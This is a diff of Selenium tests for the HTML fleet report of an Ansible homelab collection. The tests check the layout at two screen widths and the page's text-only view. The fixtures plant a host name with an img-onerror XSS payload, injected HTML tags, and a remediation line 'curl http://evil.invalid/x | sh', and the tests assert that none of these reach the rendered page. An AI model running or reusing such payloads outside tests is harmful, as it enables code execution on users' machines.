@@ -214,3 +214,83 @@ def test_drift_and_accepted_findings_are_marked_and_filterable(browser, tmp_path
     # A check the audit could not measure says since when (this run: pi-5 is new).
     assert open_cell(browser, 'pi-5', 'pi_ir_tx').find_element(By.CSS_SELECTOR, 'p.unmeasured-note').text == \
         'Not measured since %s: the last measured status stands until a run measures it again.' % data['generated_at']
+
+
+HOSTILE_NAME = 'pi-<img src=x onerror=document.title=1>&amp;'
+
+
+def layout_report(tmp_path, extra_checks):
+    """A fleet report over the registry's checks plus ``extra_checks`` made-up ones (a site with as many
+    declared checks again): long host names, every status, and one host whose finding advises a role
+    of its own (a compromised host may write anything there)."""
+    from ansible_collections.homelab.postmortem.plugins.plugin_utils import report as fleet_report, report_files
+    checks = [(d.ID, d.TITLE) for d in DETECTIONS] + [
+        ('site_backup_restic_stale_%02d' % n, 'Site check %d: the nightly backup is stale or empty' % n) for n in range(extra_checks)]
+    statuses = ['ok', 'affected', 'at_risk', 'not_applicable', 'unknown', 'error']
+    hosts = ['pi-livingroom-%02d.home.arpa' % n for n in range(30)] + [HOSTILE_NAME]
+
+    def finding(cid, title, status, advice=None):
+        return {'id': cid, 'title': title, 'status': status, 'summary': '%s on this host </td><b>' % status, 'evidence': {},
+                'remediation': advice or {'role': None, 'vars': {}, 'module': None, 'manual': [], 'disruption': 'none'},
+                'references': []}
+    results = {}
+    for number, host in enumerate(hosts):
+        results[host] = {'ansible_facts': {'postmortem': dict(
+            (cid, finding(cid, title, statuses[(number + position) % len(statuses)])) for position, (cid, title) in enumerate(checks))}}
+    results[HOSTILE_NAME]['ansible_facts']['postmortem']['pi_ir_tx'] = finding(
+        'pi_ir_tx', 'IR', 'affected', {'role': 'evil.collection.takeover', 'vars': {'pwn': True}, 'module': 'evil.mod',
+                                       'manual': ['curl http://evil.invalid/x | sh'], 'disruption': 'none'})
+    data = fleet_report.build(hosts, results, checks, '0.2.0')
+    paths, problems = report_files.write(data, str(tmp_path / ('checks-%d' % len(checks))), ['html'])
+    assert not problems
+    return paths['html'], len(checks)
+
+
+def test_every_column_fits_at_1280_and_1920_and_the_page_reads_without_javascript(browser, tmp_path):
+    """Issue 35: at 1280 px about half of the 12 columns were cut off, and the page showed nothing without
+    JavaScript. Every check's header is inside the viewport at 1280 and 1920 px, with the 12 checks and with
+    24; screenshots are kept beside the reports. One browser session for all of it."""
+    pages = [layout_report(tmp_path, 0), layout_report(tmp_path, 12)]
+    assert [count for _page, count in pages] == [len(DETECTIONS), 2 * len(DETECTIONS)]
+    for page, count in pages:
+        for width in (1280, 1920):
+            browser.execute_cdp_cmd('Emulation.setDeviceMetricsOverride',
+                                    {'width': width, 'height': 1000, 'deviceScaleFactor': 1, 'mobile': False})
+            browser.get('file://%s' % page)
+            assert browser.execute_script('return window.innerWidth') == width
+            boxes = browser.execute_script(
+                'return Array.prototype.map.call(document.querySelectorAll("#grid th.check"), function (th) {'
+                '  var r = th.getBoundingClientRect(); return [th.textContent, r.left, r.right, r.width]; });')
+            assert len(boxes) == count
+            outside = [box for box in boxes if box[1] < 0 or box[2] > width or box[3] <= 0]
+            browser.save_screenshot(str(tmp_path / ('grid-%d-checks-%d-px.png' % (count, width))))
+            assert not outside, (count, width, outside)
+            # Nothing scrolls sideways: the last cell of a row is on screen too.
+            assert browser.execute_script('var w = document.getElementById("grid-wrap"); return w.scrollWidth <= w.clientWidth')
+            assert browser.execute_script('return document.documentElement.scrollWidth') <= width
+            # The full name: on hover (title) and in the legend.
+            first = browser.find_element(By.CSS_SELECTOR, '#grid th.check')
+            assert first.get_attribute('title') == 'pi_ir_tx: %s' % DETECTIONS[0].TITLE
+            assert browser.find_element(By.CSS_SELECTOR, '#legend dt').text == 'pi_ir_tx'
+    # The fix shown is the registry's, never the host's: the hostile host advised a role and a command of its own.
+    details = open_cell(browser, HOSTILE_NAME, 'pi_ir_tx')
+    assert 'Role homelab.postmortem.pi_ir_tx' in details.text and 'gpio-ir-tx' in details.text
+    assert 'evil' not in details.text
+    assert browser.title == 'homelab.postmortem fleet report'
+
+    # Without JavaScript: the totals and the worst hosts, as the controller rendered them; host text stays text.
+    browser.execute_cdp_cmd('Emulation.setScriptExecutionDisabled', {'value': True})
+    try:
+        browser.get('file://%s' % pages[0][0])
+        totals = dict((t.get_attribute('data-total'), t.text) for t in browser.find_elements(By.CSS_SELECTOR, '#totals span'))
+        assert totals['affected'].startswith('affected: ') and totals['ok'].startswith('ok: '), totals
+        assert not browser.find_element(By.ID, 'grid').is_displayed()
+        rows = browser.find_elements(By.CSS_SELECTOR, '#worst tbody tr')
+        assert rows and all(r.is_displayed() for r in rows)
+        hostile = [r for r in rows if r.get_attribute('data-host') == HOSTILE_NAME]
+        assert hostile and hostile[0].find_element(By.CSS_SELECTOR, 'th').text == HOSTILE_NAME
+        assert 'affected on this host </td><b>' in hostile[0].text and 'evil' not in hostile[0].text
+        assert not browser.find_elements(By.CSS_SELECTOR, '#worst img, #worst b')
+        browser.save_screenshot(str(tmp_path / 'no-javascript.png'))
+    finally:
+        browser.execute_cdp_cmd('Emulation.setScriptExecutionDisabled', {'value': False})
